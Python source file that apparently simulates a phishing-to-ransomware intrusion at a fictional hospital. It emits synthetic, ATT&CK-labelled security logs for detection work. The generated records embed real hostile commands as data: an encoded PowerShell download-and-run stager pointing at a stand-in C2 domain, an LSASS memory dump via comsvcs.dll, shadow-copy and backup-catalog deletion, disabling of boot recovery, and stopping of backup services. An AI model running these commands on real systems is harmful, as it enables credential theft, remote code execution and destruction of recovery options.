"""Ransomware: phishing mail -> macro -> C2 -> discovery -> lateral movement -> recovery
sabotage (shadow copies, backup catalog, boot recovery, backup jobs) -> mass encryption."""

from __future__ import annotations

import random

from garde.simulate.calendar import HOUR
from garde.simulate.context import Ctx
from garde.simulate.emitters import backup, cef, fortigate, mail, sysmon, windows
from garde.simulate.org import DOMAIN
from garde.simulate.scenarios.base import Label, Rec, Scenario

C2_DOMAIN = "cdn-update-check.com"
C2_IP = "185.225.17.44"
LURE_SENDER = "facturation@fournisseur-medical-demo.com"
_DOC_STEMS = ("rapport", "planning", "budget", "protocole", "cr", "facture")
NOTE = "LISEZ-MOI-CHUDEMO.txt"
EXT = ".chudemo-lock"
MINUTE = 60_000
_PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CMD = r"C:\Windows\System32\cmd.exe"
_WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
_PAYLOAD = r"C:\ProgramData\Microsoft\DeviceSync\svcupd.exe"
_ENC = (  # base64 UTF-16LE: IEX (New-Object Net.WebClient).DownloadString(...)
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBh"
    "AGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC0AYwBoAGUAYwBrAC4AYwBvAG0A"
    "LwBhACcAKQA="
)
DISCOVERY = (
    (r"C:\Windows\System32\whoami.exe", "whoami /all"),
    (r"C:\Windows\System32\net.exe", 'net group "domain admins" /domain'),
    (r"C:\Windows\System32\nltest.exe", "nltest /domain_trusts /all_trusts"),
    (r"C:\Windows\System32\net.exe", r"net view \\srv-fs01.chu-demo.local /all"),
    (
        r"C:\ProgramData\Microsoft\DeviceSync\AdFind.exe",
        "AdFind.exe -f objectcategory=computer -csv name operatingSystem",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 C:\ProgramData\Microsoft\DeviceSync\l.dmp full",
    ),
)
STOP_SERVICES = (  # (server, image, command line, display name of the service it stops)
    ("backup", r"C:\Windows\System32\net.exe", 'net stop "VeeamBackupSvc" /y', "Veeam Backup Service"),
    ("backup", r"C:\Windows\System32\sc.exe", "sc config VeeamBackupSvc start= disabled", ""),
    ("sql", r"C:\Windows\System32\net.exe", "net stop MSSQLSERVER /y", "SQL Server (MSSQLSERVER)"),
    ("sql", r"C:\Windows\System32\net.exe", "net stop SQLWriter /y", "SQL Server VSS Writer"),
    ("fs", r"C:\Windows\System32\taskkill.exe", "taskkill /f /im wbengine.exe", ""),
)
IMPACT = (
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\wbadmin.exe", "wbadmin delete catalog -quiet"),
    (r"C:\Windows\System32\bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
    (r"C:\Windows\System32\bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
    (r"C:\Windows\System32\wbem\WMIC.exe", "wmic shadowcopy delete /nointeractive"),
)


def inject(ctx: Ctx, at: int, rng: random.Random) -> Label:
    label = Label(
        "ransomware",
        "Phishing macro leads to domain-wide ransomware with backup sabotage",
        (
            "T1566.001",
            "T1204.002",
            "T1059.001",
            "T1071.001",
            "T1087.002",
            "T1003.001",
            "T1021.002",
            "T1569.002",
            "T1490",
            "T1486",
        ),
    )
    rec = Rec(label)
    org = ctx.org
    victims = [p for p in org.by_role["administration"] + org.by_role["admissions"] if p.host]
    victim = rng.choice(victims)
    ws = org.hosts[victim.host]
    admin = rng.choice(org.by_role["it"])
    off = ctx.day.utc_offset_s
    label.users |= {victim.user, admin.user}
    label.hosts.add(ws.fqdn)
    label.ips |= {ws.ip, C2_IP}
    label.entity("domains", C2_DOMAIN)
    label.entity("files", r"Facture_2026-11.docm")
    me = f"{victim.user}@{DOMAIN}"
    # 1. The lure.
    rec(
        "mail",
        at,
        mail.message(
            ctx.eml,
            at,
            f"<{at:x}.lure@fournisseur-medical-demo.com>",
            LURE_SENDER,
            me,
            "Facture impayee - relance 2",
            "inbound",
            "delivered",
            "91.215.85.12",
            184_233,
            "Facture_2026-11.docm",
            spam_score=22,
        ),
    )
    t = at + rng.randrange(5 * MINUTE, 40 * MINUTE)
    word_pid, ps_pid = ctx.pid(), ctx.pid()
    rec(
        "sysmon",
        t,
        sysmon.process(
            ctx.smn,
            t,
            ws.fqdn,
            victim.user,
            _WORD,
            rf'"{_WORD}" /n "C:\Users\{victim.user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook'
            r'\X1Y2Z3\Facture_2026-11.docm" /o ""',
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            word_pid,
            cwd=f"C:\\Users\\{victim.user}\\Documents\\",
        ),
    )
    # 2. The macro starts an encoded PowerShell stager.
    t += 45_000
    rec(
        "sysmon",
        t,
        sysmon.process(
            ctx.smn,
            t,
            ws.fqdn,
            victim.user,
            _PS,
            f"powershell.exe -nop -w hidden -enc {_ENC}",
            _WORD,
            ps_pid,
            parent_command_line=f'"{_WORD}" /n "Facture_2026-11.docm"',
        ),
    )
    rec("sysmon", t + 800, sysmon.dns_query(ctx.smn, t + 800, ws.fqdn, victim.user, _PS, C2_DOMAIN, C2_IP, ps_pid))
    rec(
        "sysmon",
        t + 1000,
        sysmon.netconn(
            ctx.smn,
            t + 1000,
            ws.fqdn,
            victim.user,
            _PS,
            ws.ip,
            "10.10.0.80",
            8080,
            "srv-proxy01.chu-demo.local",
            ps_pid,
        ),
    )
    rec("sysmon", t + 5000, sysmon.file_created(ctx.smn, t + 5000, ws.fqdn, victim.user, _PS, _PAYLOAD, ps_pid))
    pay_pid = ctx.pid()
    rec(
        "sysmon",
        t + 9000,
        sysmon.process(ctx.smn, t + 9000, ws.fqdn, victim.user, _PAYLOAD, f'"{_PAYLOAD}" -k netsvc', _PS, pay_pid),
    )
    # 3. Beaconing over the proxy until the end.
    impact_at = max(t + 4 * HOUR, ctx.day.at(21.5) + rng.randrange(HOUR))
    b = t + 10_000
    while b < impact_at:
        rec(
            "proxy",
            b,
            cef.proxy(
                ctx.pxy,
                b,
                victim.user,
                ws.ip,
                "POST",
                f"https://{C2_DOMAIN}/api/v2/telemetry",
                C2_DOMAIN,
                200,
                C2_IP,
                rng.randrange(300, 900),
                rng.randrange(200, 4000),
                "Uncategorized",
                agent="Mozilla/5.0 (Windows NT; Windows NT 10.0; fr-FR) WindowsPowerShell/5.1",
            ),
        )
        if rng.random() < 0.3:
            rec(
                "firewall",
                b + 20,
                fortigate.traffic(
                    ctx.fw,
                    b + 20,
                    off,
                    "10.10.0.80",
                    40000 + b % 20000,
                    C2_IP,
                    443,
                    "close",
                    "HTTPS",
                    900,
                    3000,
                    12,
                    dst_country="Netherlands",
                    app="HTTPS.BROWSER",
                ),
            )
        b += int(rng.gauss(300, 30) * 1000)  # five-minute beacon with jitter
    # 4. Discovery and credential theft on the workstation.
    d = t + rng.randrange(60 * MINUTE, 120 * MINUTE)
    for image, cmd in DISCOVERY:
        rec(
            "sysmon",
            d,
            sysmon.process(
                ctx.smn,
                d,
                ws.fqdn,
                victim.user,
                image,
                cmd,
                _CMD,
                ctx.pid(),
                parent_command_line="cmd.exe /c",
                integrity="High",
            ),
        )
        d += rng.randrange(20 * 1000, 240 * 1000)
    # 5. Lateral movement with the stolen IT admin account, PsExec to the servers.
    servers = [org.servers[k] for k in ("fs", "backup", "ehr", "sql", "pacs", "dc1")]
    m = impact_at - 50 * MINUTE
    for server in servers:
        label.hosts.add(server.fqdn)
        lid = ctx.logon_id()
        rec(
            "winsec",
            m,
            windows.logon(ctx.sec, m, server.fqdn, admin.user, admin.sid, 3, ws.ip, lid, ws.name, auth="NTLM"),
        )
        rec("winsec", m + 1, windows.special_privileges(ctx.sec, m + 1, server.fqdn, admin.user, admin.sid, lid))
        rec(
            "winsys",
            m + 400,
            windows.service_installed(ctx.sys, m + 400, server.fqdn, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        )
        svc_pid = ctx.pid()
        rec(
            "sysmon",
            m + 600,
            sysmon.process(
                ctx.smn,
                m + 600,
                server.fqdn,
                "NT AUTHORITY\\SYSTEM",
                r"C:\Windows\PSEXESVC.exe",
                r"C:\Windows\PSEXESVC.exe",
                r"C:\Windows\System32\services.exe",
                svc_pid,
                integrity="System",
            ),
        )
        rec(
            "sysmon",
            m + 900,
            sysmon.process(
                ctx.smn,
                m + 900,
                server.fqdn,
                "NT AUTHORITY\\SYSTEM",
                _CMD,
                rf"cmd.exe /c copy \\{ws.fqdn}\C$\ProgramData\Microsoft\DeviceSync\svcupd.exe "
                r"C:\Windows\Temp\svcupd.exe",
                r"C:\Windows\PSEXESVC.exe",
                ctx.pid(),
                integrity="System",
            ),
        )
        m += rng.randrange(3 * MINUTE, 8 * MINUTE)
    # 6. Recovery sabotage on every server, then the backup jobs are deleted.
    i = impact_at - 8 * MINUTE
    for server in servers:
        for image, cmd in IMPACT:
            rec(
                "sysmon",
                i,
                sysmon.process(
                    ctx.smn,
                    i,
                    server.fqdn,
                    "NT AUTHORITY\\SYSTEM",
                    image,
                    cmd,
                    _CMD,
                    ctx.pid(),
                    parent_command_line=r"cmd.exe /c C:\Windows\Temp\svcupd.exe -prep",
                    integrity="System",
                ),
            )
            i += rng.randrange(1 * 1000, 6 * 1000)
    for job in ("DPI-SQL-Nightly", "PACS-Archive", "FileServer-FS01"):
        rec("backup", i, backup.job_event(ctx.bkp, i, f"CHU-DEMO\\{admin.user}", "Delete", job))
        i += rng.randrange(3000, 6000)
    # The backup software and the database engine are stopped so nothing holds the files.
    bkp = org.servers["backup"].fqdn
    for host, image, cmd, service in STOP_SERVICES:
        fqdn = bkp if host == "backup" else org.servers[host].fqdn
        rec(
            "sysmon",
            i,
            sysmon.process(
                ctx.smn,
                i,
                fqdn,
                "NT AUTHORITY\\SYSTEM",
                image,
                cmd,
                _CMD,
                ctx.pid(),
                parent_command_line="cmd.exe /c C:\\Windows\\Temp\\svcupd.exe -stop",
                integrity="System",
            ),
        )
        if service:
            rec("winsys", i + 1500, windows.service_state(ctx.sys, i + 1500, fqdn, service, "stopped"))
        i += rng.randrange(2000, 9000)
    # 7. Mass encryption on the file server and the patient-zero workstation.
    enc = impact_at
    fs = org.servers["fs"].fqdn
    encryptor = r"C:\Windows\Temp\svcupd.exe"
    dirs = (
        "Direction",
        "RH",
        "Finances",
        "Qualite",
        "Pharmacie",
        "Urgences",
        "Cardiologie",
        "Radiologie",
        "Laboratoire",
        "Bloc",
    )
    count = 400 + len(org.people) // 2
    for k in range(count):
        folder = dirs[k % len(dirs)]
        host = fs if k % 9 else ws.fqdn
        base = rf"D:\Partages\{folder}" if host == fs else rf"C:\Users\{victim.user}\Documents"
        if k < len(dirs) * 2 and k % 2 == 0:
            rec(
                "sysmon",
                enc,
                sysmon.file_created(ctx.smn, enc, host, "NT AUTHORITY\\SYSTEM", encryptor, rf"{base}\{NOTE}", 6616),
            )
        name = f"{_DOC_STEMS[k % 6]}-{k:05d}.{('docx', 'xlsx', 'pdf')[k % 3]}"
        rec(
            "sysmon",
            enc,
            sysmon.file_created(ctx.smn, enc, host, "NT AUTHORITY\\SYSTEM", encryptor, rf"{base}\{name}{EXT}", 6616),
        )
        enc += rng.randrange(50, 700)
    return label


SCENARIO = Scenario(
    "ransomware",
    "phishing macro -> C2 -> discovery -> PsExec -> shadow/backup deletion -> encryption",
    (8.0, 10.5),
    inject,
)
